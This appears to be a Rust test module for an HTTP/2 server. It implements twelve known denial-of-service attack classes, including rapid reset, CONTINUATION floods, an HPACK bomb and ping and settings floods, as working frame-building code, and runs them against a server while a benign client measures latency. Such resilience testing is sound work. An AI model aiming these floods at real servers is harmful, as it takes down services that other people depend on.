//! What hostile clients of HTTP/2 send: the twelve classes that brought servers down, with the advisory of each.

use std::{
    fmt,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    time::{Duration, Instant},
};

use tokio::task::JoinHandle;

use crate::{
    client::Connection,
    raw::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, Raw, SETTINGS, WINDOW_UPDATE,
        block, frame,
    },
};

/// Is a class of abuse.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Abuse {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Requests that the server resets, for an empty window update (CVE-2025-8671).
    EmptyWindowUpdate,
    /// The same, for a PRIORITY of a wrong length.
    ShortPriority,
    /// The same, for a window that overflows.
    WindowOverflow,
    /// A header block without an end (CVE-2024-27316 and others).
    Continuation,
    /// The same, of empty frames.
    EmptyContinuation,
    /// A body of empty frames (RUSTSEC-2026-0258).
    EmptyData,
    /// Settings that are to be acknowledged (CVE-2019-9515).
    Settings,
    /// Pings that are to be answered (CVE-2019-9512).
    Ping,
    /// Priorities of streams that never are (CVE-2019-9513).
    Priority,
    /// Headers that are large when they are unpacked (CVE-2016-1544).
    HpackBomb,
    /// Requests whose responses are not taken (CVE-2019-9517).
    ZeroWindow,
}

/// Says what became of an abuse.
#[derive(Clone, Copy, Debug)]
pub struct AbuseOutcome {
    /// Whether the server ended the connection.
    pub cut: bool,
    /// How many of the frames had been sent by then, at most.
    pub frames: u32,
}

impl Abuse {
    /// All of them.
    pub const ALL: [Self; 12] = [
        Self::RapidReset,
        Self::EmptyWindowUpdate,
        Self::ShortPriority,
        Self::WindowOverflow,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::EmptyData,
        Self::Settings,
        Self::Ping,
        Self::Priority,
        Self::HpackBomb,
        Self::ZeroWindow,
    ];

    /// Sends so many frames of it to a server, on a site of that name, until it is cut.
    pub async fn commit(self, server: SocketAddr, site: &str, frames: u32) -> std::io::Result<AbuseOutcome> {
        let window = if self == Self::ZeroWindow { 0 } else { 65_535 };
        let raw = Raw::open(server, site, window).await?;
        Ok(self.commit_on(raw, site, frames).await)
    }

    /// The same on a connection that is open.
    pub async fn commit_on(self, mut raw: Raw, site: &str, frames: u32) -> AbuseOutcome {
        let (mut sent, mut bytes) = (0, self.before(site));
        while sent < frames {
            let some = (frames - sent).min(AT_ONCE);
            for number in sent..sent + some {
                bytes.extend(self.frame(site, number));
            }
            sent += some;
            if raw.write(&bytes).await.is_err() {
                return AbuseOutcome { cut: true, frames: sent };
            }
            bytes.clear();
        }
        AbuseOutcome { cut: raw.is_cut(PATIENCE).await, frames: sent }
    }

    fn before(self, site: &str) -> Vec<u8> {
        match self {
            Self::Continuation | Self::EmptyContinuation => frame(HEADERS, END_STREAM, 1, &get(site)),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, &post(site)),
            _ => Vec::new(),
        }
    }

    fn frame(self, site: &str, number: u32) -> Vec<u8> {
        let stream = 2 * number + 1;
        let with = |kind, payload: &[u8]| {
            [frame(HEADERS, END_HEADERS, stream, &post(site)), frame(kind, 0, stream, payload)].concat()
        };
        let whole = |block: &[u8]| frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
        match self {
            Self::RapidReset => [whole(&get(site)), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat(),
            Self::EmptyWindowUpdate => with(WINDOW_UPDATE, &[0; 4]),
            Self::ShortPriority => with(PRIORITY, &[0; 4]),
            Self::WindowOverflow => with(WINDOW_UPDATE, &0x7fff_ffff_u32.to_be_bytes()),
            Self::Continuation => frame(CONTINUATION, 0, 1, &block(&[("x-a", "b")])),
            Self::EmptyContinuation => frame(CONTINUATION, 0, 1, &[]),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::Priority => frame(PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
            Self::HpackBomb => whole(&bomb(site, number)),
            Self::ZeroWindow => whole(&get(site)),
        }
    }
}

impl fmt::Display for Abuse {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(match self {
            Self::RapidReset => "rapid reset",
            Self::EmptyWindowUpdate => "reset by empty window update",
            Self::ShortPriority => "reset by short PRIORITY",
            Self::WindowOverflow => "reset by window overflow",
            Self::Continuation => "CONTINUATION",
            Self::EmptyContinuation => "empty CONTINUATION",
            Self::EmptyData => "empty DATA",
            Self::Settings => "SETTINGS",
            Self::Ping => "PING",
            Self::Priority => "PRIORITY",
            Self::HpackBomb => "HPACK bomb",
            Self::ZeroWindow => "streams without a window",
        })
    }
}

fn get(site: &str) -> Vec<u8> {
    block(&[(":method", "GET"), (":scheme", "https"), (":authority", site), (":path", "/")])
}

fn post(site: &str) -> Vec<u8> {
    block(&[(":method", "POST"), (":scheme", "https"), (":authority", site), (":path", "/")])
}

/// One value of 3,800 bytes goes into the table with the first request; then each names it two hundred times.
fn bomb(site: &str, number: u32) -> Vec<u8> {
    let mut fields = get(site);
    if number == 0 {
        fields.extend_from_slice(&[0x40, 3]);
        fields.extend_from_slice(b"x-a");
        // 3,800 = 127 + 3,673, in groups of seven bits.
        fields.extend_from_slice(&[0x7f, 0xd9, 0x1c]);
        fields.extend(std::iter::repeat_n(b'v', 3_800));
    } else {
        fields.extend(std::iter::repeat_n(0x80 | 62, 200));
    }
    fields
}

/// Is somebody who means no harm: a request every few milliseconds on a connection of HTTP/1.1 that stays.
pub struct Healthy {
    stop: Arc<AtomicBool>,
    asking: JoinHandle<Vec<Duration>>,
}

impl Healthy {
    /// Begins to ask; an answer other than 200 fails the test.
    pub async fn begin(server: SocketAddr, site: &str) -> Self {
        let mut connection = Connection::tls(server, site).await.unwrap();
        let (site, stop) = (site.to_owned(), Arc::new(AtomicBool::new(false)));
        let stopped = Arc::clone(&stop);
        let asking = tokio::spawn(async move {
            let mut took = Vec::new();
            let mut pace = tokio::time::interval(Duration::from_millis(4));
            while !stopped.load(Ordering::Relaxed) {
                pace.tick().await;
                let begun = Instant::now();
                let response = connection.request("GET", &site, "/healthy", "").await.unwrap();
                assert_eq!(response.status, 200, "{}", response.head);
                took.push(begun.elapsed());
            }
            took
        });
        Self { stop, asking }
    }

    /// Ends, and gives how long each answer took, the shortest first.
    pub async fn end(self) -> Vec<Duration> {
        self.stop.store(true, Ordering::Relaxed);
        let mut took = self.asking.await.unwrap();
        took.sort_unstable();
        took
    }
}

/// Sent in one piece; between two, what the server says is read.
const AT_ONCE: u32 = 250;

/// A server that says nothing for so long has cut, or hangs.
const PATIENCE: Duration = Duration::from_secs(20);
